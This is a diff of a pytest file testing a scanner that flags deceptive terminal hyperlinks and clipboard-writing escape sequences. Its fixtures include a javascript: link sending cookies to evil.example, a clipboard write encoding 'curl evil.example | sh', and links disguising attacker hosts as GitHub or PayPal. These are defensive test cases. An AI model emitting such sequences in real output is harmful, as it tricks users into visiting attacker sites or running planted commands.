@@ -1,10 +1,12 @@
-"""Terminal escapes: hiding sequences are found, ordinary colour output passes."""
+"""Terminal escapes: hiding sequences are found, ordinary colour output and honest hyperlinks pass."""
 
 from __future__ import annotations
 
 import pytest
 
-from proxy.content.scanner import detect
+from proxy.content import escapes
+from proxy.content.scanner import apply_edits, detect
+from proxy.types import Severity
 
 ESCAPES = frozenset({"escapes"})
 
@@ -19,7 +21,7 @@ def detectors(text: str) -> set[str]:
     ("done\x1b[1Aoverwritten", "escapes.csi"),
     ("x\x1b[2Jcleared", "escapes.csi"),
     ("x\x1b[10;5Hmoved", "escapes.csi"),
-    ("\x1b]8;;https://evil.example\x07docs\x1b]8;;\x07", "escapes.osc8"),
+    ("\x1b]8;;https://evil.example\x07https://docs.python.org\x1b]8;;\x07", "escapes.osc8"),
     ("\x1b]52;c;Y3VybA==\x07", "escapes.osc52"),
     ("\x1b]0;title\x07", "escapes.osc"),
     ("\x1bP+q\x1b\\", "escapes.device_string"),
@@ -47,3 +49,80 @@ def test_findings_carry_spans_for_stripping() -> None:
     text = "a\x1b[1Ab"
     (hit,) = detect(text, ESCAPES)
     assert [text[s:e] for s, e in hit.spans] == ["\x1b[1A"]
+
+
+ST = "\x1b\\"
+
+
+def link(target: str, label: str, terminator: str = ST, params: str = "") -> str:
+    return f"\x1b]8;{params};{target}{terminator}{label}\x1b]8;;{terminator}"
+
+
+@pytest.mark.parametrize("text", [
+    link("https://rich.readthedocs.io", "rich", params="id=123"),
+    "\x1b[1;34m" + link("https://github.com/Textualize/rich", "Textualize/rich", params="id=742139") + "\x1b[0m",
+    "main.c:4:7: warning: unused variable [" + link(
+        "https://gcc.gnu.org/onlinedocs/gcc/Warning-Options.html#index-Wunused-variable", "-Wunused-variable") + "]",
+    link("file://build-01/home/dana/project/README.md", "README.md") + "  "
+    + link("file://build-01/home/dana/project/src", "\x1b[01;34msrc\x1b[0m", "\x07"),
+    "Docs: " + link("man:sshd(8)", "man:sshd(8)", "\x07") + " "
+    + link("file://web01/usr/lib/systemd/system/ssh.service", "/usr/lib/systemd/system/ssh.service", "\x07"),
+    link("https://github.com/cli/cli/pull/8123", "#8123") + " Fix pager detection",
+    link("https://docs.python.org/3/library/re.html", "https://docs.python.org/3/library/re.html"),
+    link("https://www.python.org/downloads/", "python.org"),
+    link("https://pypi.org/project/requests/", "requests-2.32.3.tar.gz"),
+    "stray close " + "\x1b]8;;" + ST,
+])
+def test_honest_hyperlinks_pass(text: str) -> None:
+    assert detect(text, ESCAPES) == []
+
+
+@pytest.mark.parametrize("text", [
+    link("https://evil.example/login", "https://github.com/org/repo"),
+    link("https://github.com.evil.example/", "github.com"),
+    "\x1b[32mok\x1b[0m see " + link("https://evil.example", "\x1b[4mwww.paypal.com\x1b[0m", "\x07"),
+    link("https://github.com@evil.example/", "Visit https://github.com/org for details"),
+    link("file://build-01/tmp/x.sh", "https://docs.python.org"),
+    link("https://evil.example", "https://g\u0456thub.com/org/repo"),  # a lookalike host in the label
+    link("javascript:fetch('//evil.example/'+document.cookie)", "docs"),
+    link("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "README.md", "\x07"),
+    link("vbscript:msgbox", "report"),
+    link("ssh://evil.example/", "server"),
+    link("https://evil.example/?q=" + "a" * 300, "docs"),
+    link("https://evil.example/c/" + "QWxsIHlvdXIgYmFzZSBhcmUgYmVsb25nIHRvIHVzLiBTZW5kIHRoZSBrZXlzIG5vdzEy", "docs"),
+    link("https://evil.example/" + "x/" * 1100, "docs"),
+    "\x1b]8;;https://evil.example/unterminated",
+])
+def test_deceptive_or_loaded_hyperlinks_are_reported(text: str) -> None:
+    assert detectors(text) == {"escapes.osc8"}
+
+
+def test_a_script_link_or_a_disguised_host_is_sev2() -> None:
+    (hit,) = detect(link("https://evil.example", "https://github.com"), ESCAPES)
+    assert hit.severity is Severity.SEV2
+    (hit,) = detect(link("javascript:alert(1)", "docs"), ESCAPES)
+    assert hit.severity is Severity.SEV2
+
+
+def test_a_reported_link_is_stripped_with_its_closer_and_keeps_its_label() -> None:
+    honest = link("https://rich.readthedocs.io", "rich")
+    text = honest + " and " + link("https://evil.example", "https://github.com/org/repo") + " done"
+    (hit,) = detect(text, ESCAPES)
+    kept = apply_edits(text, [(hit, "strip")])
+    assert kept == honest + " and https://github.com/org/repo done"
+
+
+@pytest.mark.parametrize("text", [
+    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
+    "\x1b[32m✓ built\x1b[0m " + link("https://rich.readthedocs.io", "rich") + "\x1b]52;p;ZWNobyBoaQ==" + ST,
+])
+def test_clipboard_writes_are_reported_in_any_output(text: str) -> None:
+    assert "escapes.osc52" in detectors(text)
+
+
+def test_outside_terminal_output_every_hyperlink_is_reported() -> None:
+    text = "Lists files. " + link("https://rich.readthedocs.io", "rich")
+    assert escapes.scan(text) == []
+    (hit,) = escapes.scan(text, hyperlinks=False)
+    assert hit.detector == "escapes.osc8" and [text[s:e] for s, e in hit.spans] == [
+        "\x1b]8;;https://rich.readthedocs.io" + ST, "\x1b]8;;" + ST]
